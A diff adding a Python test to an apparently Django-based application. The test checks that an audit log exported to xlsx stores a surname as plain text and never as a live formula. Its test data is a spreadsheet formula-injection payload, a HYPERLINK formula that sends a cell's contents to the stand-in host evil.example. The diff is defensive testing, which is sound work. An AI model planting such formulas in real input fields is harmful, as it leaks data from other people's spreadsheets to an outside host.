@@ -292,3 +292,17 @@ def test_an_applicant_trying_an_office_page_is_refused_and_logged(
         f"/ru/office/{application.pk}/",
         "10.1.2.4",
     )
+
+
+def test_a_name_typed_as_a_formula_is_exported_as_text(client, patronat_office):
+    """A surname like =HYPERLINK(…) must not run in the auditor's spreadsheet."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Иванов")'
+    stranger = UserFactory(last_name=formula, first_name="Иван")
+    application = draft_for(stranger, patronat_office)
+    AccessLog.objects.create(user=stranger, application=application, what="application page")
+    client.force_login(SupervisorFactory(organisation=patronat_office))
+    response = client.get("/ru/supervision/audit/", {"format": "xlsx"})
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert any(str(cell.value).startswith(formula) for cell in cells)
